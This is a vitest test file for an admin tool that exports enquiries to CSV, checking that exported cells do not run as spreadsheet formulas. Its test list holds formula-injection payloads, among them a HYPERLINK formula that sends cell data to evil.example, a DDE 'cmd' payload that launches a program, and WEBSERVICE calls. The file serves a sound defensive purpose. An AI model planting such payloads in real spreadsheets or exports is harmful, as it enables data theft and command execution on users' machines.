import { describe, expect, it } from 'vitest';

import type { Enquiry } from '@/features/admin/list/list-enquiries';
import { CSV_BOM, csvCell, enquiriesToCsv, notesCell } from '@/features/admin/export/enquiries-csv';

type Imported =
  | { kind: 'text'; value: string }
  | { kind: 'number'; value: number }
  | { kind: 'formula'; source: string };

/** RFC 4180 records as a spreadsheet unquotes them (quoted fields may hold commas and lines). */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i += 1) {
    const char = csv[i];
    if (quoted) {
      if (char === '"' && csv[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(field);
      field = '';
    } else if (char === '\r' && csv[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else field += char;
  }
  return rows;
}

const STRING_CONSTANT = /^="((?:[^"]|"")*)"$/;
const NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i;

/**
 * Excel's reading of one unquoted cell: = + - or @ first makes a formula (a formula that is only
 * a string constant evaluates to that text and runs nothing else), a number-looking cell is a
 * number, anything else is text. A leading apostrophe is kept as text, as LibreOffice and
 * Google Sheets show it: the stricter reading for a guarded cell.
 */
function excelCell(raw: string): Imported {
  const constant = STRING_CONSTANT.exec(raw);
  if (constant) return { kind: 'text', value: (constant[1] ?? '').replace(/""/g, '"') };
  if (/^[=+\-@]/.test(raw)) return { kind: 'formula', source: raw };
  if (NUMBER.test(raw.trim())) return { kind: 'number', value: Number(raw) };
  return { kind: 'text', value: raw };
}

/** The same reading by an importer that first trims whitespace and control characters. */
function trimmingImporterCell(raw: string): Imported {
  return excelCell(raw.replace(/^[\s\p{Cc}\p{Cf}]+/u, ''));
}

function importCell(value: string, read = excelCell): Imported {
  const [[cell]] = parseCsv(`${csvCell(value)}\r\n`) as [[string]];
  return read(cell);
}

describe('what a spreadsheet makes of an exported cell', () => {
  it.each(['+44 20 7946 0000', '+1 (555) 010-0199', '+33.1.23.45.67.89', '+44/20 7946 0000'])(
    'keeps a phone number as exactly its text, with no apostrophe: %j',
    (phone) => {
      expect(importCell(phone)).toEqual({ kind: 'text', value: phone });
      expect(importCell(phone, trimmingImporterCell)).toEqual({ kind: 'text', value: phone });
    },
  );

  it.each([
    '=HYPERLINK("http://evil.example?d="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '+44 20 7946 0000+HYPERLINK("http://x")',
    '+SUM(A1:A9)',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\u0000=1+1',
    '  =1+1',
    '\n=1+1',
    '\u200b=1+1',
    '\ufeff@SUM(A1)',
    '+' + '1'.repeat(300),
    '="+44"&A1',
    '="safe" & WEBSERVICE("http://x")',
  ])('runs no formula for %j, in Excel or in a trimming importer', (hostile) => {
    for (const read of [excelCell, trimmingImporterCell]) {
      const cell = importCell(hostile, read);
      expect(cell.kind).not.toBe('formula');
      // nothing of the value is lost: it follows the guard's apostrophe, or is the text itself
      if (cell.kind === 'text') expect(cell.value.replace(/^'/, '')).toContain(hostile.trim());
    }
  });

  it('imports ordinary text and numbers as before', () => {
    expect(importCell('Acme Ltd')).toEqual({ kind: 'text', value: 'Acme Ltd' });
    expect(importCell('020 7946 0000')).toEqual({ kind: 'text', value: '020 7946 0000' });
    expect(importCell('Leeds, UK')).toEqual({ kind: 'text', value: 'Leeds, UK' });
  });
});

describe('what staff recorded, in the export', () => {
  const staff = [
    { id: 'u-ann', email: 'ann@kestrel.example', display_name: 'Ann Lee' },
    { id: 'u-bob', email: 'bob@kestrel.example', display_name: '' },
    { id: 'u-cy', email: 'cy@kestrel.example', display_name: null },
  ];
  const row: Enquiry = {
    id: 'e-1',
    created_at: '2026-11-02T09:00:00+00:00',
    Name: 'Jo Doe',
    Email: 'jo@example.com',
    Company: 'Acme',
    Job: null,
    Phone: '+44 20 7946 0000',
    Interest: 'ai-ml',
    Timeline: '1-3-months',
    Message: 'Hello',
    status: 'in_progress',
    assigned_to: 'u-bob',
    last_contacted_at: '2026-11-03T10:00:00+00:00',
    first_response_at: '2026-11-02T11:30:00+00:00',
    held_at: '2026-11-02T09:00:01+00:00',
    landing_page: '/service/data-strategy',
    referrer_host: 'www.linkedin.com',
    utm_source: 'newsletter',
    utm_medium: 'email',
    utm_campaign: '-q4',
    booking_key: null,
  };
  const notes = [
    {
      submission_id: 'e-1',
      created_at: '2026-11-04T08:15:00+00:00',
      author_id: null,
      author_email: 'gone@kestrel.example',
      body: '=HYPERLINK("x") said on a call',
    },
    {
      submission_id: 'e-1',
      created_at: '2026-11-02T12:05:59+00:00',
      author_id: 'u-ann',
      author_email: 'ann@old.example',
      body: 'Called, "keen"',
    },
    {
      submission_id: 'e-2',
      created_at: '2026-11-02T12:00:00+00:00',
      author_id: 'u-ann',
      author_email: 'ann@kestrel.example',
      body: 'another enquiry',
    },
  ];

  it('writes status, assignee, dates, hold, source and the notes beside each enquiry', () => {
    const [header, line] = parseCsv(enquiriesToCsv([row], { staff, notes }).slice(CSV_BOM.length));
    const record = Object.fromEntries(header!.map((name, index) => [name, line![index]]));
    expect(record).toMatchObject({
      Phone: '="+44 20 7946 0000"',
      Status: 'In progress',
      // no display name: the e-mail
      Assignee: 'bob@kestrel.example',
      'Last Contact (London time)': '2026-11-03 10:00:00',
      'First Response (London time)': '2026-11-02 11:30:00',
      'Held (London time)': '2026-11-02 09:00:01',
      'Landing Page': '/service/data-strategy',
      'Referrer Host': 'www.linkedin.com',
      'UTM Source': 'newsletter',
      'UTM Medium': 'email',
      'UTM Campaign': "'-q4",
      Notes:
        '2026-11-02 12:05, Ann Lee: Called, "keen"\n' +
        '2026-11-04 08:15, gone@kestrel.example: =HYPERLINK("x") said on a call',
      ID: 'e-1',
    });
  });

  it('names an assignee by display name, and one no longer on the staff list by id', () => {
    const named = parseCsv(
      enquiriesToCsv([{ ...row, assigned_to: 'u-ann' }], { staff, notes: [] }),
    )[1];
    expect(named).toContain('Ann Lee');
    const gone = parseCsv(
      enquiriesToCsv([{ ...row, assigned_to: 'u-left' }], { staff, notes: [] }),
    )[1];
    expect(gone).toContain('u-left');
    // list_staff() gives null before a name is set: the e-mail
    const unnamed = parseCsv(
      enquiriesToCsv([{ ...row, assigned_to: 'u-cy' }], { staff, notes: [] }),
    )[1];
    expect(unnamed).toContain('cy@kestrel.example');
  });

  it('leaves the notes cell empty for an enquiry without notes', () => {
    expect(notesCell([], new Map())).toBe('');
  });
});
